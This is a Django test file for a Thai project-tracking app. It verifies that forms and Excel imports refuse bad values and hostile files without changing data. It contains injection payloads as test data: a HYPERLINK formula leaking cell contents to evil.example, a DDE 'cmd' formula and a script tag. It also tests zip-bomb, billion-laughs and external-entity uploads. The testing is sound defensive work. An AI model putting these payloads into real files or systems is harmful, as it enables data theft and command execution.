"""Bad input on every project form: a clear Thai message, what was typed kept, nothing changed.

Each form is posted by a person who may use it, from the data the page itself shows, with one
field replaced by a bad value (tracking/tests/badinput.py has the shared contract).
"""

import datetime as dt
import io
import zipfile
from decimal import Decimal

import pytest
from django.core.files.uploadedfile import SimpleUploadedFile
from django.db import IntegrityError, transaction
from django.urls import reverse
from django.utils.html import escape
from hypothesis import HealthCheck, given
from hypothesis import settings as hsettings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from accounts.models import OrgUnit
from accounts.roles import Role
from projects.imports import ProjectImport
from projects.models import Activity, BudgetAllocation, Indicator, MonthlyPlan, Project, Step
from projects.spreadsheet import sheet_layouts
from tracking.tests.badinput import (
    ALREADY_EXISTS,
    BILLION_LAUGHS,
    CHOICE,
    DATE,
    DECIMAL_PLACES,
    EUROPEAN,
    EXTERNAL_ENTITY,
    HOSTILE_TEXT,
    HTML_PAGE,
    IMG_ONERROR,
    INVISIBLE_TEXTS,
    MAX_DIGITS,
    MAX_VALUE,
    MIN_VALUE,
    NOT_NUMBERS,
    NUMBER,
    REQUIRED,
    SCRIPT,
    SQL,
    TOO_LONG,
    WINDOWS_EXE,
    Msg,
    assign,
    changed_tables,
    database_state,
    docx_like,
    form_data,
    handmade_xlsx,
    many_entries_zip,
    refused,
    refused_whole,
    truncated,
    zip_bomb,
)

pytestmark = pytest.mark.django_db

FISCAL_YEAR = Msg("ปีงบประมาณเป็นปี พ.ศ.", "Enter the fiscal year in the Buddhist era")
END_BEFORE_START = Msg("วันสิ้นสุดอยู่ก่อนวันเริ่ม")
WEIGHTS = Msg("ต้องรวมได้ 100")
UNIT_ROLE = Msg("หน่วยงานต้องเป็นผู้ดำเนินงานหรือผู้รับงบประมาณ")
UNIT_TWICE = Msg("โปรดแก้ไขข้อมูลที่ซ้ำซ้อน")


@pytest.fixture
def admin(make_user):
    """Admin ทั้งหมด: manages projects of every money source."""
    return make_user("admin_all", roles=[Role.ADMIN_ALL], unit="ALRO-KTP")


@pytest.fixture
def forms_of(client, admin, make_project):
    """forms_of(name) → (url, context key, valid POST data), signed in as someone who may post it."""
    project = make_project(code="B-1", source="budget_act", units=("ALRO-P50", "ALRO-P57"))
    activity = project.activities.get()
    Indicator.objects.create(activity=activity, name="เกษตรกรได้รับการจัดที่ดิน", unit_of_measure="ราย", target=10)
    client.force_login(admin)
    activity_url = {"pk": project.pk, "aid": activity.pk}
    pages = {
        "project_new": (
            reverse("projects:create"),
            "form",
            {"code": "B-NEW", "name": "โครงการใหม่", "owner_unit": unit_pk("ALRO-SPP")},
        ),
        "project_edit": (reverse("projects:edit", args=[project.pk]), "form", {"start_date": "1/10/2569"}),
        "activity": (reverse("projects:activity_edit", kwargs=activity_url), "form", {}),
        "units": (reverse("projects:activity_rows", kwargs={**activity_url, "kind": "units"}), "formset", {}),
        "steps": (reverse("projects:activity_rows", kwargs={**activity_url, "kind": "steps"}), "formset", {}),
        "indicators": (
            reverse("projects:activity_rows", kwargs={**activity_url, "kind": "indicators"}),
            "formset",
            {},
        ),
        "plan": (reverse("projects:activity_plan", kwargs=activity_url), "form", {}),
        "budget": (reverse("projects:activity_budget", kwargs=activity_url), "form", {}),
        "targets": (reverse("projects:indicator_targets", kwargs=activity_url), "form", {}),
    }

    def get(name):
        url, key, extra = pages[name]
        page = client.get(url)
        assert page.status_code == 200
        return url, key, {**form_data(page.context[key]), **extra}

    get.project, get.activity = project, activity
    return get


FORMS = [
    "project_new",
    "project_edit",
    "activity",
    "units",
    "steps",
    "indicators",
    "plan",
    "budget",
    "targets",
]


@pytest.mark.parametrize("name", FORMS)
def test_the_page_data_itself_is_accepted(client, forms_of, name):
    """The catalogue below changes one field of this data; unchanged, it must save."""
    url, _key, data = forms_of(name)
    response = client.post(url, data)
    assert response.status_code == 302, response.context[_key].errors if response.context else response


def unit_pk(code):
    return str(OrgUnit.objects.get(code=code).pk)


BIG = ["1e20", "100000000000000000000", "99999999999999999.99", "10000000000000"]
MONEY_REFUSED = [(v, NUMBER) for v in NOT_NUMBERS] + [("-1", MIN_VALUE), ("-0.01", MIN_VALUE)]
MONEY_TOO_PRECISE = [(v, MAX_DIGITS) for v in BIG] + [
    ("0.001", DECIMAL_PLACES),
    ("1,234.567", DECIMAL_PLACES),
]

# Each round posts one form with several bad fields at once; every field must carry its own message.
# Rounds whose message still needs its Thai translation are kept apart (they xfail until then).
ROUNDS = [
    ("project_new", {
        "fiscal_year": ("abc", NUMBER), "code": ("", REQUIRED), "name": ("   ", REQUIRED),
        "owner_unit": ("abc", CHOICE), "status": ("deleted", CHOICE), "funding_source": ("bogus", CHOICE),
        "start_date": ("31/02/2569", DATE), "end_date": ("1/10/2026", DATE),  # a Gregorian year
    }),
    ("project_new", {
        "fiscal_year": ("2.570", EUROPEAN), "owner_unit": ("999999999", CHOICE),
        "start_date": ("2569-13-01", DATE), "end_date": ("1/10/69", DATE),
    }),
    ("project_new", {
        "owner_unit": ("-1", CHOICE), "start_date": ("พรุ่งนี้", DATE), "end_date": ("1/10/99999", DATE),
    }),
    ("project_new", {"owner_unit": ("DLA-D5001", CHOICE)}),  # a DLA office owns no ALRO project
    ("project_edit", {"end_date": ("1/1/2500", END_BEFORE_START), "name": ("", REQUIRED)}),
    ("activity", {"order": ("abc", NUMBER), "name": (" ", REQUIRED)}),
    ("activity", {"order": ("-1", MIN_VALUE)}),
    ("activity", {"order": ("99999", MAX_VALUE)}),
    ("activity", {"order": ("1e3", NUMBER)}),
    ("units", {"units-0-unit": ("abc", CHOICE), "units-1-unit": ("DLA-D5001", CHOICE)}),
    ("units", {"units-1-unit": ("ALRO-P50", UNIT_TWICE)}),  # the first row's unit again
    ("units", {"units-0-is_executing": (None, UNIT_ROLE), "units-0-is_budget_receiving": (None, UNIT_ROLE)}),
    ("steps", {
        "steps-0-weight": ("abc", NUMBER), "steps-1-weight": ("-40", MIN_VALUE),
        "steps-0-name": ("", REQUIRED), "steps-1-order": ("-2", MIN_VALUE),
    }),
    # A step weighs something, and at most everything.
    ("steps", {"steps-0-weight": ("140", MAX_VALUE), "steps-1-weight": ("0", MIN_VALUE)}),
    ("steps", {"steps-0-weight": ("NaN", NUMBER), "steps-1-weight": ("Infinity", NUMBER)}),
    ("steps", {"steps-0-weight": ("50", WEIGHTS)}),
    ("indicators", {
        "indicators-0-target": ("-5", MIN_VALUE), "indicators-0-name": ("", REQUIRED),
        "indicators-1-target": ("Infinity", NUMBER),  # a new row with only a (bad) target
    }),
    ("plan", "s_*", [*MONEY_REFUSED, ("-3", MIN_VALUE)]),
    ("plan", "q_*", MONEY_REFUSED),
    ("budget", "b_*", MONEY_REFUSED),
    ("targets", "t_*", [("-1", MIN_VALUE), ("ไม่รู้", NUMBER)]),
    # Still in English until the Thai of Django's own message is added (tracking/django_overrides.py).
    ("project_new", {
        "code": ("B" * 41, TOO_LONG), "name": ("ก" * 501, TOO_LONG), "strategy": ("ย" * 501, TOO_LONG),
        "objective": ("ว" * 4001, TOO_LONG),
    }),
    ("project_new", {"code": ("B-1", ALREADY_EXISTS)}),  # the same code twice in a year
    ("project_new", {"fiscal_year": ("2026", FISCAL_YEAR)}),  # a Gregorian year where the B.E. one belongs
    ("project_new", {"fiscal_year": ("99999999999999999999", FISCAL_YEAR)}),
    ("activity", {"name": ("ก" * 501, TOO_LONG), "description": ("ค" * 4001, TOO_LONG)}),
    ("units", {"units-0-output_unit": ("ร" * 51, TOO_LONG)}),
    ("steps", {"steps-0-weight": ("39.999", DECIMAL_PLACES), "steps-0-name": ("ข" * 301, TOO_LONG)}),
    ("indicators", {
        "indicators-0-target": ("1e20", MAX_DIGITS), "indicators-0-unit_of_measure": ("ห" * 51, TOO_LONG),
    }),
    ("plan", "s_*", MONEY_TOO_PRECISE),
    # Planned output is stored with 12 digits before the point: 13 would not fit.
    ("plan", "q_*", [("9999999999999", MAX_DIGITS), ("0.001", DECIMAL_PLACES)]),
    ("budget", "b_*", MONEY_TOO_PRECISE),
    ("targets", "t_*", [("9999999999999", MAX_DIGITS)]),
]  # fmt: skip


def round_id(round_):
    name, fields, *cases = round_
    if isinstance(fields, str):
        return f"{name}-{fields}-{len(cases[0])}"
    return f"{name}-" + "-".join(sorted({f.split("-")[-1] for f in fields}))


@pytest.mark.parametrize("round_", ROUNDS, ids=[f"{i:02d}-{round_id(r)}" for i, r in enumerate(ROUNDS)])
def test_bad_values_are_refused_in_thai_and_nothing_changes(client, forms_of, round_):
    name, fields, *cases = round_
    url, key, data = forms_of(name)
    if isinstance(fields, str):
        bad = assign(data, [(fields, value, message) for value, message in cases[0]])
    else:
        bad = dict(fields)
    for field, (value, message) in list(bad.items()):
        if field.endswith("-unit") and value in ("ALRO-P50", "DLA-D5001"):
            bad[field] = (data["units-0-unit"] if value == "ALRO-P50" else unit_pk(value), message)
        elif field == "owner_unit" and value == "DLA-D5001":
            bad[field] = (unit_pk(value), message)
    refused(client, url, data, bad, form_key=key)


@pytest.mark.parametrize("value", ["ชื่อ\x00โครงการ", "ชื่อ\x1bโครงการ", "\x7f"], ids=["nul", "escape", "delete"])
def test_control_characters_in_a_field_are_refused_whole(client, forms_of, value):
    url, _key, data = forms_of("project_new")
    refused_whole(client, url, {**data, "name": value})


@pytest.mark.parametrize("value", INVISIBLE_TEXTS)
def test_a_name_of_invisible_characters_only_is_not_a_name(client, forms_of, value):
    url, _key, data = forms_of("project_new")
    refused(client, url, data, {"name": (value, REQUIRED)})


@pytest.mark.parametrize("fy", ["99999999999", "-1", "abc", "๙๙๙๙๙๙๙", "1.234,5"])
def test_a_fiscal_year_out_of_range_in_the_export_address_is_404(client, admin, fy):
    client.force_login(admin)
    for name in ("projects:export", "projects:template"):
        assert client.get(reverse(name), {"fy": fy}).status_code == 404


def test_a_fiscal_year_typed_in_thai_digits_is_read_as_people_type_it(client, admin):
    client.force_login(admin)
    for name in ("projects:export", "projects:template"):
        assert client.get(reverse(name), {"fy": "๒๕๗๐"}).status_code == 200


@pytest.mark.parametrize("fy", ["99999999999", "-1"])
def test_a_fiscal_year_out_of_range_in_the_list_filter_is_said_in_thai(client, admin, fy):
    client.force_login(admin)
    response = client.get(reverse("projects:index"), {"fy": fy})
    assert response.status_code == 200
    body = response.content.decode()
    assert MIN_VALUE.found_in(body) or MAX_VALUE.found_in(body)


def test_hostile_text_is_stored_as_typed_and_shown_escaped(client, forms_of):
    url, _key, data = forms_of("project_new")
    for number, value in enumerate([*HOSTILE_TEXT, "\u200b\u200bซ่อน"]):
        code = f"X-{number}"
        response = client.post(url, {**data, "code": code, "name": value, "objective": value * 3})
        assert response.status_code == 302
        project = Project.objects.get(code=code)
        assert project.name == value and project.objective == value * 3  # stored exactly as typed
        body = client.get(reverse("projects:detail", args=[project.pk])).content.decode()
        assert escape(value) in body
        assert SCRIPT not in body and IMG_ONERROR not in body
    listing = client.get(reverse("projects:index"), {"fy": 2570, "q": SQL}).content.decode()
    assert escape(SQL) in listing and "X-2" in listing  # SQL in the search box is only a search
    assert Project.objects.count() == 6
    listing = client.get(reverse("projects:index"), {"fy": 2570}).content.decode()
    assert SCRIPT not in listing and IMG_ONERROR not in listing and escape(SCRIPT) in listing


def test_a_long_objective_within_the_limit_is_kept_whole(client, forms_of):
    url, _key, data = forms_of("project_new")
    text = ("วัตถุประสงค์ " * 400)[:3999] + "!"
    assert client.post(url, {**data, "objective": text, "fiscal_year": "๒๕๗๐"}).status_code == 302
    project = Project.objects.get(code="B-NEW")
    assert project.objective == text and len(text) == 4000
    assert project.fiscal_year == 2570  # typed in Thai digits


TYPED_MONEY = [
    ("1,500.50", "1500.50"), ("๑,๕๐๐.๕๐", "1500.50"), ("1 500 บาท", "1500"), ("  7  ", "7"), ("0.10", "0.1"),
    ("9999999999999.99", "9999999999999.99"), ("0", "0"), ("", "0"),
]  # fmt: skip


def test_money_as_offices_type_it_is_read_exactly(client, forms_of):
    url, _key, data = forms_of("plan")
    cells = assign(data, [("s_*", typed, stored) for typed, stored in TYPED_MONEY])
    response = client.post(url, {**data, **{name: typed for name, (typed, _stored) in cells.items()}})
    assert response.status_code == 302
    for name, (typed, stored) in cells.items():
        _kind, au_pk, month = name.split("_")
        plan = MonthlyPlan.objects.get(activity_unit_id=au_pk, month=month)
        assert plan.spending == Decimal(stored), typed


def test_step_rows_are_not_saved_one_by_one(client, forms_of):
    """A formset with one good change and one bad row saves neither."""
    url, _key, data = forms_of("steps")
    data["steps-0-name"] = "ชื่อใหม่"
    refused(client, url, data, {"steps-1-weight": ("-60", MIN_VALUE)}, form_key="formset")
    assert set(Step.objects.values_list("name", flat=True)) == {"เตรียมการ", "ดำเนินการ"}


@pytest.mark.parametrize(
    ("change", "message"),
    [
        ({"steps-TOTAL_FORMS": "abc"}, Msg("ManagementForm", "ManagementForm data is missing")),
        ({"steps-TOTAL_FORMS": "5000"}, Msg("ส่งได้ไม่เกิน", "Please submit at most 150 forms")),
    ],
    ids=["tampered", "too-many-rows"],
)
def test_a_tampered_formset_is_refused_without_an_error_page(client, forms_of, change, message):
    url, _key, data = forms_of("steps")
    refused(client, url, {**data, **change}, message=message, form_key="formset")


def test_an_activity_number_used_twice_is_refused(client, forms_of):
    url, _key, data = forms_of("activity")
    Activity.objects.create(project=forms_of.project, order=2, name="กิจกรรมที่สอง")
    refused(client, url, data, {"order": ("2", ALREADY_EXISTS)})


# --- the workbook import -----------------------------------------------------------------------


@pytest.fixture
def importer(client, admin, settings, tmp_path):
    settings.IMPORT_DIR = tmp_path / "imports"
    client.force_login(admin)

    def post(data, name="projects.xlsx"):
        return client.post(reverse("projects:import"), {"file": SimpleUploadedFile(name, data)})

    return post


def import_workbook(rows: dict, text_cells=()) -> bytes:
    """A workbook in the import layout with ``rows`` per sheet; ``text_cells`` (sheet, cell) are kept
    as text even when they start with "=" (openpyxl would make them formulas)."""
    book = Workbook()
    book.remove(book.active)
    layouts = sheet_layouts()
    for name, (title, headers) in layouts.items():
        sheet = book.create_sheet(title)
        sheet.append(headers)
        for row in rows.get(name, []):
            sheet.append(row)
    for name, cell in text_cells:
        target = book[layouts[name][0]][cell]
        target.data_type = "s"
    out = io.BytesIO()
    book.save(out)
    return out.getvalue()


def good_rows(code="B-70", name="โครงการนำเข้า", **replace):
    rows = {
        "projects": [[2570, code, name, "budget_act", "ALRO-SPP", "", "", "1/10/2569", "30/9/2570", ""]],
        "activities": [[2570, code, 1, "กิจกรรมหนึ่ง", ""]],
        "units": [[2570, code, 1, "ALRO-P50", "", "ใช่", "ใช่", "ราย"]],
        "steps": [[2570, code, 1, 1, "ดำเนินการ", 100]],
        "plans": [[2570, code, 1, "ALRO-P50", "ผลผลิต", *([1] * 12)]],
        "budgets": [[2570, code, 1, "ALRO-P50", "operating", "ไม่", "1,000"]],
        "indicators": [[2570, code, 1, "ครัวเรือนที่ได้รับ", "ครัวเรือน", 10]],
    }
    rows.update(replace)
    return rows


def test_a_good_workbook_previews_without_problems(importer):
    """The rows the tests below spoil are themselves fine."""
    response = importer(import_workbook(good_rows()))
    assert not response.context["result"].problems
    assert "token" in response.context


FORMULA_LIKE = [
    '=HYPERLINK("http://evil.example/?leak="&A1,"คลิก")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(1)",
    "=1+1",
]


def test_formula_like_text_is_imported_as_text_and_exported_as_text(client, importer):
    rows = good_rows()
    cells = [
        ("projects", 2),
        ("projects", 5),
        ("projects", 6),
        ("activities", 3),
        ("activities", 4),
        ("steps", 4),
    ]
    for (sheet, column), text in zip(cells, FORMULA_LIKE, strict=True):
        rows[sheet][0][column] = text
    letters = "ABCDEFGHIJ"
    data = import_workbook(rows, text_cells=[(sheet, f"{letters[column]}2") for sheet, column in cells])
    response = importer(data)
    assert not response.context["result"].problems, response.context["result"].problems
    client.post(reverse("projects:import_apply"), {"token": response.context["token"]})
    project = Project.objects.get(code="B-70")
    activity = project.activities.get()
    stored = [project.name, project.strategy, project.objective, activity.name, activity.description,
              activity.steps.get().name]  # fmt: skip
    assert stored == FORMULA_LIKE  # never evaluated, never changed
    exported = b"".join(client.get(reverse("projects:export"), {"fy": 2570}).streaming_content)
    book = load_workbook(io.BytesIO(exported))
    layouts = sheet_layouts()
    for (sheet, column), text in zip(cells, FORMULA_LIKE, strict=True):
        row = next(r for r in book[layouts[sheet][0]].iter_rows(min_row=2) if r[1].value == "B-70")
        assert (row[column].value, row[column].data_type) == (text, "s")  # text, not a formula


def test_real_formulas_are_never_evaluated(importer):
    """A formula cell is read for its saved result only; with none saved, the cell is empty."""
    rows = good_rows()
    rows["steps"][0][5] = "=50+50"
    rows["projects"][0][2] = '=HYPERLINK("http://evil.example","x")'
    response = importer(import_workbook(rows))
    problems = {(p.sheet, p.column): p.message for p in response.context["result"].problems}
    assert problems == {
        ("ขั้นตอนการดำเนินงาน", "น้ำหนัก (%)"): "ต้องกรอก แต่ยังว่างอยู่",
        ("โครงการ", "ชื่อโครงการ"): "ต้องกรอก แต่ยังว่างอยู่",
    }
    assert not Project.objects.filter(code="B-70").exists()


BAD_CELLS = [
    ("steps", 5, 0),  # a step of no weight
    ("plans", 5, 9999999999999),  # output: 12 digits before the point at most
    ("plans", 6, 1e300),
    ("plans", 7, "1e999999"),
    ("plans", 8, "NaN"),
    ("plans", 9, "-0.001"),
    ("indicators", 5, 1e15),
    ("budgets", 6, 1e14),
    ("budgets", 6, "12.345"),  # satang only
    ("steps", 5, "100.001"),
    ("activities", 2, 70000),
    ("activities", 2, "1e3"),
    ("activities", 2, 1.5),
    ("projects", 0, 2026),  # a Gregorian year
    ("projects", 0, "๒๕๗๐.๕"),
    ("projects", 2, ""),
    ("projects", 3, "<script>alert(1)</script>"),
    ("projects", 7, "1/10/2026"),
    ("projects", 7, "31/2/2569"),
    ("projects", 7, 45000),  # an Excel day number typed as a plain number
    ("projects", 8, "1/1/2500"),  # ends before it starts
    ("units", 5, "บางที"),
    ("units", 3, "DLA-D5001"),  # not an ALRO unit
    ("budgets", 4, "งบลับ"),
    ("projects", 1, "ก" * 41),
    ("activities", 3, "ก" * 501),
    ("steps", 5, "ห้าสิบ"),
    ("plans", 10, -3),
    ("indicators", 5, "9999999999999"),
]


def test_every_bad_cell_is_listed_at_once_and_nothing_changes(importer):
    """One project per bad cell: every one is reported with its sheet, row and column, nothing saved."""
    rows, expected = {}, set()
    layouts = sheet_layouts()
    for number, (sheet, column, value) in enumerate(BAD_CELLS):
        project = good_rows(code=f"B-{number:02d}")
        project[sheet][0][column] = value
        for name, sheet_rows in project.items():
            rows.setdefault(name, []).extend(sheet_rows)
        title, headers = layouts[sheet]
        expected.add((title, number + 2, headers[column]))
    before = database_state()
    response = importer(import_workbook(rows))
    problems = response.context["result"].problems
    assert expected <= {(p.sheet, p.row, p.column) for p in problems}, expected - {
        (p.sheet, p.row, p.column) for p in problems
    }
    assert all(p.row >= 2 and p.message for p in problems)
    body = response.content.decode()
    assert "<script>alert(1)</script>" not in body and escape("<script>alert(1)</script>") in body
    assert "token" not in response.context
    assert changed_tables(before) == []


def test_an_import_refused_by_the_database_at_the_end_changes_nothing(client, importer, monkeypatch):
    """Whatever the database refuses while applying (here: the last sheet), all of it is rolled back."""
    response = importer(import_workbook(good_rows()))
    token = response.context["token"]

    def refuse(**kwargs):
        raise IntegrityError("indicator refused")

    monkeypatch.setattr(Indicator.objects, "update_or_create", refuse)
    before = database_state()
    response = client.post(reverse("projects:import_apply"), {"token": token}, follow=True)
    assert response.status_code == 200
    assert "ระบบปฏิเสธการนำเข้า ไม่มีข้อมูลใดเปลี่ยนแปลง" in response.content.decode()
    assert changed_tables(before) == []
    assert not Project.objects.filter(code="B-70").exists()


# --- hostile files -------------------------------------------------------------------------------

NOT_XLSX = Msg("ไม่ใช่ไฟล์ .xlsx")
UNREADABLE = Msg("อ่านไฟล์นี้เป็นไฟล์ตารางคำนวณ")
BOMB = Msg("ถูกปฏิเสธ")
XLSX_ONLY = Msg("กรุณาอัปโหลดไฟล์ Excel (.xlsx)")
EMPTY_FILE = Msg("ไฟล์ที่ส่งว่างเปล่า")


def malformed_sheet() -> bytes:
    """A real workbook whose first sheet's XML breaks off in the middle."""
    source = import_workbook(good_rows())
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            if name == "xl/worksheets/sheet1.xml":
                content = content[: len(content) // 2]
            new.writestr(name, content)
    return out.getvalue()


def laughs_in_sheet() -> bytes:
    source = import_workbook(good_rows())
    out = io.BytesIO()
    with zipfile.ZipFile(io.BytesIO(source)) as old, zipfile.ZipFile(out, "w") as new:
        for name in old.namelist():
            content = old.read(name)
            if name == "xl/worksheets/sheet1.xml":
                content = (
                    BILLION_LAUGHS.replace("<sst", "<worksheet").replace("</sst>", "</worksheet>").encode()
                )
            new.writestr(name, content)
    return out.getvalue()


HOSTILE_FILES = [
    ("zip-bomb", lambda: zip_bomb(80), "projects.xlsx", BOMB),
    ("2500-entries", lambda: many_entries_zip(2500), "projects.xlsx", BOMB),
    ("billion-laughs", lambda: handmade_xlsx(BILLION_LAUGHS, "โครงการ"), "projects.xlsx", UNREADABLE),
    ("external-entity", lambda: handmade_xlsx(EXTERNAL_ENTITY, "โครงการ"), "projects.xlsx", UNREADABLE),
    ("truncated", lambda: truncated(import_workbook(good_rows())), "projects.xlsx", NOT_XLSX),
    ("sheet-cut-off", malformed_sheet, "projects.xlsx", UNREADABLE),
    ("laughs-in-sheet", laughs_in_sheet, "projects.xlsx", UNREADABLE),
    ("csv-renamed", lambda: "ปี,รหัส\n2570,B-1\n".encode(), "projects.xlsx", NOT_XLSX),
    ("docx-renamed", docx_like, "projects.xlsx", NOT_XLSX),
    ("exe-renamed", lambda: WINDOWS_EXE, "projects.xlsx", NOT_XLSX),
    ("csv", lambda: b"a,b\n1,2\n", "projects.csv", XLSX_ONLY),
    ("xls", lambda: WINDOWS_EXE, "projects.xls", XLSX_ONLY),
    ("no-extension", lambda: import_workbook(good_rows()), "projects", XLSX_ONLY),
    ("empty", lambda: b"", "projects.xlsx", EMPTY_FILE),
    ("html", lambda: HTML_PAGE, "projects.xlsx", NOT_XLSX),
]


@pytest.mark.parametrize(
    ("make", "name", "message"), [c[1:] for c in HOSTILE_FILES], ids=[c[0] for c in HOSTILE_FILES]
)
def test_hostile_files_are_refused_in_thai_and_change_nothing(client, importer, make, name, message):
    before = database_state()
    response = importer(make(), name)
    assert response.status_code == 200
    assert "token" not in response.context
    message.check(response.content.decode())
    assert changed_tables(before) == []


@pytest.mark.parametrize(
    "make", [lambda: zip_bomb(80), lambda: many_entries_zip(2500)], ids=["bomb", "entries"]
)
def test_a_zip_bomb_is_refused_before_openpyxl_opens_it(client, importer, monkeypatch, make):
    calls = []
    monkeypatch.setattr("tracking.workbooks.load_workbook", lambda *a, **k: calls.append(a) or 1 / 0)
    response = importer(make())
    BOMB.check(response.content.decode())
    assert calls == []


def test_the_import_page_refuses_a_post_without_a_file(client, importer):
    refused(client, reverse("projects:import"), {}, {"file": ("", REQUIRED)})


# --- property: random cells in every column -------------------------------------------------------

# Each example writes and reads a workbook and digests the database twice: 30 keep it to seconds.
EXAMPLES = hsettings(
    max_examples=30, deadline=None, suppress_health_check=[HealthCheck.function_scoped_fixture]
)
TEXT = st.text(alphabet=st.characters(blacklist_categories=("Cs", "Cc")), max_size=20)
PLAUSIBLE = st.sampled_from(
    ["ใช่", "ไม่", 2570, "2570", 2569, "B-70", "ALRO-P50", "ALRO-SPP", 0, "100", 100, "1,000.50", "๑๐", "-1",
     "=1+1", "operating", "budget_act", "ผลผลิต", "การใช้จ่าย (บาท)", "30/9/2570", "1/10/2569", "0.001", "1e15",
     " ", 12.5, dt.date(2026, 10, 1), dt.datetime(2027, 9, 30, 12, 0)]
)  # fmt: skip
ANYTHING = st.one_of(
    st.none(),
    TEXT,
    st.integers(min_value=-(10**16), max_value=10**16),
    st.floats(allow_nan=False, allow_infinity=False),
    st.decimals(min_value=Decimal("-1e20"), max_value=Decimal("1e20"), allow_nan=False),
    st.dates(min_value=dt.date(1900, 1, 1)),
    st.booleans(),
)
CELL = st.one_of(PLAUSIBLE, ANYTHING)


@st.composite
def spoiled_workbooks(draw):
    """The good rows of one project with up to three cells replaced by anything a cell can hold."""
    rows = good_rows()
    rows["plans"].append([2570, "B-70", 1, "ALRO-P50", "การใช้จ่าย (บาท)", *([1000] * 12)])
    places = [
        (name, r, c)
        for name, sheet_rows in rows.items()
        for r, row in enumerate(sheet_rows)
        for c in range(len(row))
    ]
    for name, r, c in draw(st.lists(st.sampled_from(places), max_size=3, unique=True)):
        rows[name][r][c] = draw(CELL)
    return rows


@EXAMPLES
@given(rows=spoiled_workbooks())
def test_random_cells_are_imported_whole_or_every_problem_is_listed(admin, rows):
    """Never an exception, never a partial import: problems listed and nothing changed, or no problem
    and the whole workbook applied."""
    savepoint = transaction.savepoint()
    try:
        before = database_state()
        importer = ProjectImport(admin, io.BytesIO(import_workbook(rows)))
        result = importer.read()
        if result.problems:
            assert all(p.message and (p.row >= 2 or p.row == 0) for p in result.problems), result.problems
            assert changed_tables(before) == []
        else:
            importer.apply()  # a clean preview must apply: a refusal here would be a missed check
            assert Project.objects.filter(code=rows["projects"][0][1]).exists() or not result.changes
    finally:
        transaction.savepoint_rollback(savepoint)


NUMBERS = st.one_of(
    st.decimals(min_value=0, max_value=Decimal("9999999999999.99"), places=2),
    st.decimals(min_value=Decimal("-1e16"), max_value=Decimal("1e16"), allow_nan=False, allow_infinity=False),
    st.decimals(allow_nan=True, allow_infinity=True),
)


def fits_in_baht(number: Decimal) -> bool:
    return (
        number.is_finite()
        and 0 <= number <= Decimal("9999999999999.99")
        and number == number.quantize(Decimal("0.01"))
    )


@EXAMPLES
@given(
    number=NUMBERS,
    spelling=st.sampled_from(["{:f}", "{:,f}", "{:,f} บาท", "thai", "{}"]),
)
def test_any_amount_typed_in_the_budget_grid_is_saved_exactly_or_refused(client, forms_of, number, spelling):
    url, _key, data = forms_of("budget")
    cell = assign(data, [("b_*_operating_0", None, None)]).popitem()[0]
    if spelling == "thai":
        typed = (
            f"{number:,f}".translate(str.maketrans("0123456789", "๐๑๒๓๔๕๖๗๘๙"))
            if number.is_finite()
            else str(number)
        )
    else:
        typed = spelling.format(number) if number.is_finite() or spelling == "{}" else str(number)
    savepoint = transaction.savepoint()
    try:
        before = database_state()
        response = client.post(url, {**data, cell: typed})
        if fits_in_baht(number):
            assert response.status_code == 302, (typed, response.context["form"].errors)
            au_pk = int(cell.split("_")[1])
            stored = BudgetAllocation.objects.filter(
                activity_unit_id=au_pk, category="operating", carried_over=False
            )
            assert [a.amount for a in stored] == ([number] if number else [])
        else:
            assert response.status_code == 200
            assert response.context["form"].errors[cell]
            assert changed_tables(before) == []
    finally:
        transaction.savepoint_rollback(savepoint)
